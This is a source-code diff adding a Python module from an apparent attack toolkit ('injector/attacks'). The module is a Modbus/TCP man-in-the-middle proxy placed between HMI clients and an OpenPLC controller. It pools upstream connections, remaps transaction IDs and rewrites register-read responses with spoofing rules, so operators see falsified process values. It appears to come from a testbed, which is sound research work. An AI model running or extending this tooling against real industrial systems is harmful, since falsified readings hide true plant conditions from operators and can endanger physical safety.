@@ -0,0 +1,446 @@
+# injector/attacks/proxy_mux.py
+"""
+Spoof proxy z multipleksowaniem połączeń do PLC: wielu klientów (np. flota
+symulowanych HMI) dzieli małą pulę połączeń upstream, zamiast jednego
+socket.create_connection na klienta - OpenPLC obsługuje ograniczoną liczbę
+równoczesnych połączeń i zwalnia, gdy jest ich dużo.
+
+  - klient jest przypinany do upstreamu z najmniejszą liczbą klientów
+    (kolejność żądań jednego klienta zostaje zachowana),
+  - TID żądania jest podmieniany w miejscu na unikalny w obrębie upstreamu,
+    oryginalny TID i klient są zapamiętane w ConnState upstreamu (PendingReq),
+  - odpowiedź: TID z powrotem na oryginalny, spoof FC3/FC4 regułami proxy_rules,
+    ramka idzie do właściwego klienta,
+  - zerwanie upstreamu zamyka przypiętych klientów (jak zerwanie PLC),
+    kolejny klient łączy go ponownie,
+  - shield_ttl_s > 0 -> "shield mode": odczyty FC3/FC4 z ShieldCache
+    (cache per rejestr + łączenie identycznych odczytów w locie); waiterzy
+    dostają kopię odpowiedzi lidera po spoofie, a gdy lider jej nie dostanie
+    (zerwany upstream, PENDING_TTL_S) - wyjątek 0x0B.
+"""
+
+import asyncio
+import itertools
+import logging
+import threading
+import time
+from dataclasses import dataclass
+from typing import Any, Dict, List, Optional, Set, Tuple
+
+from injector.core import mbap
+from injector.core.config import PlcConfig
+from injector.core.mbap import FrameView
+from injector.core.txlog import get_txlog
+from injector.attacks.modbus_proxy_spoof import ConnState, PendingReq, ReadKey, ShieldCache, get_txn_counters
+from injector.attacks.proxy_async import READ_CHUNK, WRITE_HIGH_WATER, PLC_CONNECT_TIMEOUT_S
+from injector.attacks.proxy_rules import get_spoof_engine
+from injector.attacks.proxy_stats import ConnStats, get_proxy_stats
+
+log = logging.getLogger(__name__)
+
+DEFAULT_UPSTREAMS = 2
+CLIENT_MAX_BUFFER = 4 * WRITE_HIGH_WATER   # klient, który tyle nie odebrał, jest rozłączany
+SHIELD_FAIL_EXCEPTION = 0x0B               # Gateway Target Device Failed to Respond
+
+_CLIENT_IDS = itertools.count(1)
+
+
+@dataclass
+class MuxReq(PendingReq):
+    client: Any = None       # _Client
+    orig_tid: int = 0
+    shield_key: Optional[ReadKey] = None     # odczyt-lider w shield mode
+
+
+class _Client:
+    __slots__ = ("writer", "peer", "upstream", "conn_id", "stats")
+
+    def __init__(self, writer: asyncio.StreamWriter, peer: Any):
+        self.writer = writer
+        self.peer = peer
+        self.conn_id = next(_CLIENT_IDS)
+        self.upstream: Optional["_Upstream"] = None
+        # upstream jest wspólny - kolejki próbkujemy tylko po stronie klienta
+        self.stats = ConnStats(self.conn_id, peer)
+        self.stats.bind(writer.get_extra_info("socket"), None, writer.transport, None)
+
+
+class _Upstream:
+    """Jedno połączenie do PLC współdzielone przez wielu klientów."""
+
+    def __init__(self, index: int):
+        self.index = index
+        self.reader: Optional[asyncio.StreamReader] = None
+        self.writer: Optional[asyncio.StreamWriter] = None
+        self.state: Optional[ConnState] = None
+        self.clients: Set[_Client] = set()
+        self.connect_lock = asyncio.Lock()
+        self.reader_task: Optional[asyncio.Task] = None
+        self.next_tid = 0
+        self.requests = 0
+        self.responses = 0
+        self.reconnects = 0
+
+    @property
+    def connected(self) -> bool:
+        return self.writer is not None and not self.writer.is_closing()
+
+    def alloc_tid(self) -> int:
+        # pending <= MAX_PENDING << 65536, więc pętla kończy się szybko
+        pending = self.state.pending
+        tid = self.next_tid
+        while tid in pending:
+            tid = (tid + 1) & 0xFFFF
+        self.next_tid = (tid + 1) & 0xFFFF
+        return tid
+
+
+class MuxModbusProxy:
+    """
+    Proxy Modbus/TCP: N klientów -> upstreams połączeń do PLC, z remapowaniem TID.
+    run() jest blokujące i pasuje do threading.Thread (jak AsyncModbusProxy.run).
+    """
+
+    def __init__(
+        self,
+        cfg: PlcConfig,
+        listen_host: str,
+        listen_port: int,
+        upstreams: int = DEFAULT_UPSTREAMS,
+        backlog: int = 1024,
+        shield_ttl_s: float = 0.0,
+    ):
+        self.cfg = cfg
+        self.listen_host = listen_host
+        self.listen_port = listen_port
+        self.backlog = backlog
+        self.engine = get_spoof_engine()
+        self.txlog = get_txlog()
+        self._upstreams = [_Upstream(i) for i in range(max(1, upstreams))]
+        self.shield: Optional[ShieldCache] = ShieldCache(shield_ttl_s) if shield_ttl_s > 0 else None
+
+        self._tasks: Set[asyncio.Task] = set()
+        self.connections = 0
+        self.connections_total = 0
+        self.plc_connect_failed = 0
+        self.responses_dropped = 0
+        self.clients_overrun = 0
+
+    def stats(self) -> Dict[str, Any]:
+        return {
+            "mode": "mux",
+            "shield": self.shield.stats() if self.shield is not None else None,
+            "connections": self.connections,
+            "connections_total": self.connections_total,
+            "plc_connect_failed": self.plc_connect_failed,
+            "responses_dropped": self.responses_dropped,
+            "clients_overrun": self.clients_overrun,
+            "upstreams": [
+                {
+                    "index": up.index,
+                    "connected": up.connected,
+                    "clients": len(up.clients),
+                    "inflight": len(up.state.pending) if up.state is not None else 0,
+                    "requests": up.requests,
+                    "responses": up.responses,
+                    "reconnects": up.reconnects,
+                }
+                for up in self._upstreams
+            ],
+            "spoof": self.engine.stats(),
+            "transactions": get_txn_counters().snapshot(),
+            "traffic": get_proxy_stats().snapshot(),
+            "txlog": self.txlog.stats() if self.txlog is not None else None,
+        }
+
+    # --- upstream ---
+
+    async def _ensure_connected(self, up: _Upstream) -> bool:
+        async with up.connect_lock:
+            if up.connected:
+                return True
+            try:
+                up.reader, up.writer = await asyncio.wait_for(
+                    asyncio.open_connection(self.cfg.plc_host, self.cfg.plc_port),
+                    timeout=PLC_CONNECT_TIMEOUT_S,
+                )
+            except (OSError, asyncio.TimeoutError) as e:
+                self.plc_connect_failed += 1
+                log.warning("Mux proxy: cannot connect upstream %d to PLC %s:%s: %r",
+                            up.index, self.cfg.plc_host, self.cfg.plc_port, e)
+                return False
+            up.writer.transport.set_write_buffer_limits(high=WRITE_HIGH_WATER)
+            up.state = ConnState()
+            if up.reader_task is not None:
+                up.reconnects += 1
+            up.reader_task = asyncio.get_running_loop().create_task(self._upstream_reader(up))
+            self._tasks.add(up.reader_task)
+            up.reader_task.add_done_callback(self._tasks.discard)
+            log.info("Mux proxy: upstream %d connected to PLC %s:%s",
+                     up.index, self.cfg.plc_host, self.cfg.plc_port)
+            return True
+
+    def _drop_upstream(self, up: _Upstream) -> None:
+        if up.writer is not None:
+            up.writer.close()
+        up.writer = None
+        if up.state is not None:
+            up.state.close()
+        if self.shield is not None:
+            # waiterzy mogą być przypięci do innych upstreamów - przed zamknięciem klientów
+            self._fail_waiters(self.shield.drop_owner(up))
+        for client in list(up.clients):
+            client.writer.close()
+        up.clients.clear()
+
+    def _spoof(self, buf: bytearray, frame: FrameView, req: PendingReq) -> int:
+        data_off = frame.register_data_offset()
+        if data_off is None:
+            return 0
+        try:
+            count = min(frame.register_count(), req.count)
+            return self.engine.apply(buf, data_off, count, frame.unit_id, frame.func, req.start_addr)
+        except Exception as e:
+            log.debug("[mux] spoof response error: %r", e)
+            return 0
+
+    def _send(self, client: _Client, parts: List[bytes], t_rx: float) -> None:
+        w = client.writer
+        if w.is_closing():
+            self.responses_dropped += len(parts)
+            return
+        # upstream jest wspólny - nie czekamy na drain() wolnego klienta,
+        # tylko rozłączamy go, gdy zaległości przekroczą limit
+        if w.transport.get_write_buffer_size() > CLIENT_MAX_BUFFER:
+            self.clients_overrun += 1
+            log.warning("Mux proxy: client %s not reading, disconnecting", client.peer)
+            w.close()
+            return
+        data = b"".join(parts)
+        w.write(data)
+        client.stats.p2c.batch(len(parts), len(data), t_rx)
+
+    # --- shield mode ---
+
+    def _fail_waiters(self, failed: List[Tuple[ReadKey, List[Any]]]) -> None:
+        """Waiterzy odczytu-lidera bez odpowiedzi: wyjątek 0x0B zamiast ciszy."""
+        if not failed:
+            return
+        t_rx = time.perf_counter()
+        out: Dict[_Client, List[bytes]] = {}
+        for (unit_id, func, _, _), waiters in failed:
+            for client, tid in waiters:
+                out.setdefault(client, []).append(mbap.encode_exception(tid, unit_id, func, SHIELD_FAIL_EXCEPTION))
+        log.debug("[mux] %d shield waiters failed", sum(len(p) for p in out.values()))
+        for client, parts in out.items():
+            self._send(client, parts, t_rx)
+
+    def _complete_shield(self, up: _Upstream, req: MuxReq, frame: FrameView, buf: bytearray) -> List[Any]:
+        data_off = frame.register_data_offset()
+        data = None
+        if data_off is not None and frame.func == req.func:
+            data = memoryview(buf)[data_off:frame.end]
+        try:
+            return self.shield.complete(req.shield_key, req.ts, data, time.monotonic(), owner=up)
+        finally:
+            if data is not None:
+                data.release()
+
+    def _shield_request(self, client: _Client, frame: FrameView, func: int, start: int, count: int,
+                        replies: List[bytes]) -> Tuple[bool, Optional[ReadKey]]:
+        """
+        Odczyt FC3/FC4 w shield mode -> (wysłać do PLC?, klucz odczytu-lidera).
+        Obsłużone bez PLC: odpowiedź z cache dopisana do replies albo klient
+        dopisany do identycznego odczytu w locie.
+        """
+        if not 1 <= count <= 125 or start + count > 65536:
+            return True, None        # niepoprawne żądanie - niech PLC odpowie wyjątkiem
+        key = (frame.unit_id, func, start, count)
+        now = time.monotonic()
+        self._fail_waiters(self.shield.expire(now))
+        data = self.shield.lookup(key, now)
+        if data is not None:
+            rsp = bytearray(mbap.HEADER.pack(frame.tid, frame.pid, 3 + len(data), frame.unit_id))
+            rsp += bytes((func, len(data)))
+            rsp += data
+            client.stats.p2c.spoofed_registers += self._spoof(
+                rsp, FrameView(rsp), PendingReq(func=func, start_addr=start, count=count))
+            replies.append(bytes(rsp))
+            return False, None
+        if self.shield.join(key, (client, frame.tid), now, owner=client.upstream):
+            return False, None
+        return True, key
+
+    async def _upstream_reader(self, up: _Upstream) -> None:
+        reader, state = up.reader, up.state
+        funcs = self.engine.functions
+        txlog = self.txlog
+        buf = bytearray()
+        try:
+            while True:
+                chunk = await reader.read(READ_CHUNK)
+                if not chunk:
+                    break
+                t_rx = time.perf_counter()
+                buf += chunk
+                frames, consumed = mbap.split_frames(buf)
+                if not frames:
+                    continue
+
+                out: Dict[_Client, List[bytes]] = {}
+                for frame in frames:
+                    req = state.pop(frame.tid)
+                    if req is None or req.client is None:
+                        self.responses_dropped += 1
+                        continue
+                    up.responses += 1
+                    mbap.U16.pack_into(buf, frame.offset, req.orig_tid)
+                    # cache dostaje prawdziwe wartości - przed spoofem
+                    waiters = self._complete_shield(up, req, frame, buf) if req.shield_key is not None else ()
+                    spoofed = 0
+                    if frame.func in funcs and req.func == frame.func:
+                        spoofed = self._spoof(buf, frame, req)
+                        req.client.stats.p2c.spoofed_registers += spoofed
+                    if txlog is not None:
+                        txlog.record_pair(req.client.conn_id, req.orig_tid, frame.unit_id, req, frame.func,
+                                          frame.exception_code, frame.total_len, spoofed)
+                    rsp = bytes(buf[frame.offset:frame.end])
+                    out.setdefault(req.client, []).append(rsp)
+                    # waiterzy: ta sama (już podmieniona) odpowiedź, tylko z własnym TID -
+                    # reguły stanowe (replay/freeze) przesuwają się raz na odpowiedź PLC
+                    for client, tid in waiters:
+                        client.stats.p2c.spoofed_registers += spoofed
+                        out.setdefault(client, []).append(mbap.U16.pack(tid) + rsp[2:])
+                del buf[:consumed]
+
+                for client, parts in out.items():
+                    self._send(client, parts, t_rx)
+        except (ConnectionError, asyncio.IncompleteReadError) as e:
+            log.debug("[mux %d] upstream read error: %r", up.index, e)
+        except asyncio.CancelledError:
+            pass
+        finally:
+            if up.state is state:
+                log.info("Mux proxy: upstream %d disconnected (%d clients closed)", up.index, len(up.clients))
+                self._drop_upstream(up)
+
+    # --- klienci ---
+
+    async def _handle_client(self, c_reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter) -> None:
+        peer = c_writer.get_extra_info("peername")
+        client = _Client(c_writer, peer)
+        # rezerwacja przed await - równolegle przyjmowani klienci rozkładają się po upstreamach
+        up = min(self._upstreams, key=lambda u: len(u.clients))
+        client.upstream = up
+        up.clients.add(client)
+        if not await self._ensure_connected(up):
+            up.clients.discard(client)
+            client.stats.close()
+            c_writer.close()
+            return
+
+        self.connections += 1
+        self.connections_total += 1
+        log.debug("Mux proxy: client %s -> upstream %d", peer, up.index)
+
+        state = up.state
+        buf = bytearray()
+        try:
+            while True:
+                chunk = await c_reader.read(READ_CHUNK)
+                if not chunk:
+                    break
+                t_rx = time.perf_counter()
+                buf += chunk
+                frames, consumed = mbap.split_frames(buf)
+                if not frames:
+                    continue
+                if up.state is not state or not up.connected:
+                    break        # upstream padł w międzyczasie
+
+                shield = self.shield
+                replies: List[bytes] = []
+                forwarded: List[FrameView] = []
+                now = time.monotonic()
+                for frame in frames:
+                    rng = frame.request_range()
+                    func, start, count = rng if rng is not None else (frame.func, 0, 0)
+                    shield_key = None
+                    if shield is not None and rng is not None:
+                        if func in (3, 4):
+                            forward, shield_key = self._shield_request(client, frame, func, start, count, replies)
+                            if not forward:
+                                continue
+                        elif func in (6, 16):
+                            shield.invalidate(frame.unit_id, start, 1 if func == 6 else count, now)
+                    tid = up.alloc_tid()
+                    state.put(tid, MuxReq(func=func, start_addr=start, count=count,
+                                          size=frame.total_len, client=client, orig_tid=frame.tid,
+                                          shield_key=shield_key))
+                    mbap.U16.pack_into(buf, frame.offset, tid)
+                    forwarded.append(frame)
+                up.requests += len(forwarded)
+                if replies:
+                    self._send(client, replies, t_rx)
+
+                if len(forwarded) == len(frames):
+                    if consumed == len(buf):
+                        up.writer.write(buf)
+                        buf = bytearray()
+                    else:
+                        up.writer.write(bytes(buf[:consumed]))
+                        del buf[:consumed]
+                else:
+                    if forwarded:
+                        up.writer.write(b"".join(bytes(buf[f.offset:f.end]) for f in forwarded))
+                    del buf[:consumed]
+                await up.writer.drain()
+                client.stats.c2p.batch(len(frames), consumed, t_rx, len(buf))
+        except (ConnectionError, asyncio.IncompleteReadError):
+            pass
+        except asyncio.CancelledError:
+            pass
+        finally:
+            up.clients.discard(client)
+            client.stats.close()
+            c_writer.close()
+            self.connections -= 1
+            log.debug("Mux proxy: client closed %s", peer)
+
+    def _on_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        task = asyncio.get_running_loop().create_task(self._handle_client(reader, writer))
+        self._tasks.add(task)
+        task.add_done_callback(self._tasks.discard)
+
+    async def serve(self, stop_event: threading.Event,
+                    ready_event: Optional[threading.Event] = None) -> None:
+        server = await asyncio.start_server(
+            self._on_client, self.listen_host, self.listen_port,
+            reuse_address=True, backlog=self.backlog,
+        )
+        log.info(
+            "Spoof proxy (mux, %d upstreams) listening on %s:%s -> PLC %s:%s",
+            len(self._upstreams), self.listen_host, self.listen_port, self.cfg.plc_host, self.cfg.plc_port,
+        )
+        if ready_event:
+            ready_event.set()
+
+        try:
+            # threading.Event nie ma wersji awaitable -> polling co 100 ms
+            while not stop_event.is_set():
+                await asyncio.sleep(0.1)
+                if self.shield is not None:
+                    # liderzy bez odpowiedzi także wtedy, gdy nie ma nowych odczytów
+                    self._fail_waiters(self.shield.expire(time.monotonic()))
+        finally:
+            server.close()
+            for t in list(self._tasks):
+                t.cancel()
+            await asyncio.gather(*self._tasks, return_exceptions=True)
+            for up in self._upstreams:
+                self._drop_upstream(up)
+            await server.wait_closed()
+            log.info("Spoof proxy stopped.")
+
+    def run(self, stop_event: threading.Event, ready_event: Optional[threading.Event] = None) -> None:
+        asyncio.run(self.serve(stop_event, ready_event))